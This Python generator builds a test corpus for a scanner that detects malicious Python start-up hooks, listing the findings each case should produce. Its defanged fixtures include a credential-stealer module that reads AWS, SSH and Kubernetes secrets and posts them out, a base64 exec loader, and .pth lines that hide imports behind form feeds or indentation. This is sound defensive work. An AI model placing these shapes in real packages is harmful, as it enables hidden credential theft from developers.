"""Regenerates corpus/cases/*/case.toml: defanged start-up hook samples with expected findings.

Run with `python3 -I -S corpus/generate.py` from the repository root. It only writes text: the
one compiled sample (a .pyc) is made with py_compile, which compiles and never executes.
"""
import base64
import os
import py_compile
import tempfile
import textwrap

HERE = os.path.dirname(os.path.abspath(__file__))
NL = "\n"
harmless = 'print("pthscan corpus: defanged sample; this is not a real payload")\n' * 6
b64 = base64.b64encode(harmless.encode()).decode()
litellm_line = (
    'import os, subprocess, sys; os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed" and '
    'subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'%s\'))"], '
    "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)" % b64
)
stealer = textwrap.dedent(
    '''\
    # pthscan corpus: defanged stealer shape. It acts only if PTHSCAN_CORPUS_NEVER_SET=armed,
    # and then only talks to the loopback discard port.
    import json, os, urllib.request

    _TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"]


    def run():
        if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") != "armed":
            return
        loot = {}
        for p in _TARGETS:
            try:
                loot[p] = open(os.path.expanduser(p), "rb").read().decode("latin-1")
            except OSError:
                pass
        urllib.request.urlopen("http://127.0.0.1:9/", data=json.dumps(loot).encode(), timeout=1)
'''
)
tmp = tempfile.mkdtemp()
src = os.path.join(tmp, "sitecustomize.py")
with open(src, "w") as f:
    f.write(stealer)
pyc = os.path.join(tmp, "sitecustomize.pyc")
py_compile.compile(src, cfile=pyc, doraise=True)
with open(pyc, "rb") as f:
    pyc_b64 = base64.b64encode(f.read()).decode()
fake_elf = base64.b64encode(
    b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"pthscan corpus: not a real shared object"
).decode()


def q(s):
    """A TOML literal string."""
    assert "'''" not in s
    return "'''\n" + s + "'''" if "\n" in s else "'''" + s + "'''"


def f(path, text=None, b64data=None):
    if text is not None and any(ord(c) < 32 and c not in "\n\t" for c in text):
        # TOML strings cannot hold other control characters, and parsers may normalise CRLF
        b64data = base64.b64encode(text.encode()).decode()
    if b64data is not None:
        return '[[file]]\npath = "%s"\nbase64 = "%s"\n' % (path, b64data)
    return '[[file]]\npath = "%s"\ntext = %s\n' % (path, q(text))


def e(rule, severity, path, line=None, runs_on=None):
    out = '[[expect]]\nrule = "%s"\nseverity = "%s"\npath = "%s"\n' % (rule, severity, path)
    if line is not None:
        out += "line = %d\n" % line
    if runs_on is not None:
        out += "runs_on = [%s]\n" % ", ".join('"%s"' % r for r in runs_on)
    return out


SP = "venv/lib/python3.12/site-packages"
CFG = f("venv/pyvenv.cfg", "home = /usr/bin\nversion = 3.12.4\n")
cases = {}
cases["litellm-init"] = (
    "The LiteLLM 1.82.8 litellm_init.pth shape (payload defanged), under its own name and under a neutral one.",
    [
        f(SP + "/litellm_init.pth", litellm_line + NL),
        f(SP + "/zz_telemetry.pth", litellm_line),
        e("PTH001", "critical", SP + "/litellm_init.pth", 1),
        e("PTH001", "critical", SP + "/zz_telemetry.pth", 1),
    ],
)
cases["dot-named-pth"] = (
    "A dot-named .pth: dormant on patched CPython, live on unpatched <=3.12.",
    [
        f(SP + "/.hidden.pth", "import _shim\n"),
        f(SP + "/.paths.pth", "extra\n"),
        e("PTH002", "high", SP + "/.hidden.pth", 1, ["<=3.12-unpatched"]),
        e("PTH002", "low", SP + "/.paths.pth", 1),
    ],
)
cases["formfeed-split"] = (
    "A path line that hides an import behind a form feed: a harmless path on <=3.12, an executed import on 3.13+.",
    [
        f(SP + "/mydir.pth", "mydir\x0cimport _shim\n"),
        e("PTH001", "high", SP + "/mydir.pth", 1, ["3.13-3.14", "3.15-3.17"]),
    ],
)
cases["indented-315"] = (
    "An indented import line: a path before 3.15, executed from 3.15 (PEP 829 strips lines).",
    [
        f(SP + "/indented.pth", "# looks like a comment block\n    import _shim\n"),
        e("PTH001", "high", SP + "/indented.pth", 2, ["3.15-3.17"]),
    ],
)
cases["start-entry-payload"] = (
    "A PEP 829 .start entry point into a module carrying the stealer shape.",
    [
        f(SP + "/telemetry.start", "# start-up telemetry\n_telemetry.boot:run\n"),
        f(SP + "/_telemetry/__init__.py", ""),
        f(SP + "/_telemetry/boot.py", stealer),
        e("START001", "high", SP + "/telemetry.start", 2, ["3.15-3.17"]),
        e("IMP001", "high", SP + "/_telemetry/boot.py", 3),
    ],
)
cases["hidden-module"] = (
    "A harmless-looking import line whose module is the payload.",
    [
        f(SP + "/sysmon_telemetry.pth", "# telemetry bootstrap\nimport _sysmon_init\n"),
        f(SP + "/_sysmon_init.py", stealer),
        e("PTH001", "high", SP + "/sysmon_telemetry.pth", 2),
        e("IMP001", "high", SP + "/_sysmon_init.py", 3),
    ],
)
cases["customize-forms"] = (
    "sitecustomize as sourceless bytecode and as an extension module, usercustomize as a package.",
    [
        f(SP + "/sitecustomize.pyc", b64data=pyc_b64),
        f("venv/lib/python3.12/os.py", ""),
        f("venv/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so", b64data=fake_elf),
        f(SP + "/usercustomize/__init__.py", "import base64\nexec(base64.b64decode('cHJpbnQoImRlZmFuZ2VkIik='))\n"),
        e("CUS002", "critical", SP + "/sitecustomize.pyc"),
        e("CUS003", "high", "venv/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so"),
        e("CUS001", "high", SP + "/usercustomize/__init__.py", 2),
    ],
)
cases["path-into-shm"] = (
    "Path lines into /dev/shm and into another user's hidden directory; a relative line stays quiet.",
    [
        f(SP + "/local-paths.pth", "/dev/shm/.x\n/home/mallory/.cache/lib\nsrc\n"),
        e("PTH010", "high", SP + "/local-paths.pth", 1),
        e("PTH010", "medium", SP + "/local-paths.pth", 2),
    ],
)
setuptools_line = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
cases["known-name-changed"] = (
    "setuptools' distutils-precedence.pth with one line appended.",
    [
        f(SP + "/distutils-precedence.pth", setuptools_line + 'import os; os.environ.get("SETUPTOOLS_EXT") or __import__("_distutils_hack_ext")\n'),
        e("PTH001", "info", SP + "/distutils-precedence.pth", 1),
        e("PTH003", "high", SP + "/distutils-precedence.pth", 2),
    ],
)
nspkg = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
benign = [
    ("distutils-precedence.pth", setuptools_line),
    ("_virtualenv.pth", "import _virtualenv"),
    ("a1_coverage.pth", 'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n'),
    ("hunter.pth", "import hunter; hunter._embed_via_environment()\n"),
    ("protobuf-3.20.3-py3.8-nspkg.pth", nspkg),
    ("__editable__.demo_local-0.1.0.pth", "import __editable___demo_local_0_1_0_finder; __editable___demo_local_0_1_0_finder.install()"),
    ("my_project.pth", "import _editable_impl_my_project\n/home/dev/my-project/src\n"),
    ("pip_system_certs.pth", "import os, sys; __import__('pip_system_certs.bootstrap') and sys.modules['pip_system_certs.bootstrap'].bootstrap()\n"),
    ("easy-install.pth", "import sys; sys.__plen = len(sys.path)\n./demo-0.1-py3.12.egg\nimport sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p = getattr(sys, '__egginsert', 0); sys.path[p:p] = new; sys.__egginsert = p + len(new)\n"),
    ("uv_build_editable.pth", "/home/dev/uv-project/src"),
    ("pywin32.pth", "# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\nPythonwin\r\n# And some hackery to deal with environments where the post_install script\r\n# isn't run.\r\nimport pywin32_bootstrap\r\n"),
]
parts = [f(SP + "/_virtualenv.py", "import os\nimport sys\n\nVIRTUALENV_PATCH_FILE = os.path.join(__file__)\n")]
for name, text in benign:
    parts.append(f(SP + "/" + name, text))
    for i, line in enumerate(text.replace("\r\n", "\n").split("\n"), 1):
        if line.startswith("import"):
            parts.append(e("PTH001", "info", SP + "/" + name, i))
cases["benign-hooks"] = (
    "Legitimate hooks in their real shapes: every executable line is info, nothing else is reported.",
    parts,
)

for name, (desc, parts) in sorted(cases.items()):
    os.makedirs(os.path.join(HERE, "cases", name), exist_ok=True)
    with open(os.path.join(HERE, "cases", name, "case.toml"), "w", newline="") as out:
        out.write("# %s\n# Defanged: every payload is harmless text or sits behind a never-set guard.\n" % desc)
        out.write("description = %s\n\n" % q(desc))
        out.write("\n".join([CFG] + parts))
print("wrote %d cases" % len(cases))
